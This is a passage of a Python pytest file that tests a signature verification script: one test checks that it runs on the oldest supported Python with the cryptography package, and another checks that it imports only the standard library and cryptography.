    return found if probe.returncode == 0 else None


@pytest.mark.skipif(
    oldest_python_with_cryptography() is None,
    reason="no python{}.{} with the cryptography package".format(*OLDEST_PYTHON),
)
def test_the_file_alone_runs_on_the_oldest_python_it_supports(tmp_path: Path, version: Version) -> None:
    # Beyond the syntax: names the standard library gained later (datetime.UTC is 3.11) fail only at run time.
    python = oldest_python_with_cryptography()
    assert python is not None
    keys = key_list(tmp_path / "keys.json", version.signer, revoked_at=FOLDER_CREATED_AT + timedelta(days=1))

    run = run_captured([python, "-I", str(VERIFY_SCRIPT), str(version.folder), "--keys", str(keys)])

    assert run.returncode == 0, run.stderr
    assert status_lines(run.stdout) == dict.fromkeys(FILES, "OK")


def test_the_file_imports_only_the_standard_library_and_cryptography() -> None:
    tree = ast.parse(VERIFY_SCRIPT.read_text())
    imported = {alias.name for node in ast.walk(tree) if isinstance(node, ast.Import) for alias in node.names}
    imported |= {
        node.module
        for node in ast.walk(tree)
        if isinstance(node, ast.ImportFrom) and node.module and not node.level
    }
    tops = {name.split(".")[0] for name in imported}

    assert tops - sys.stdlib_module_names - {"__future__"} == {"cryptography"}
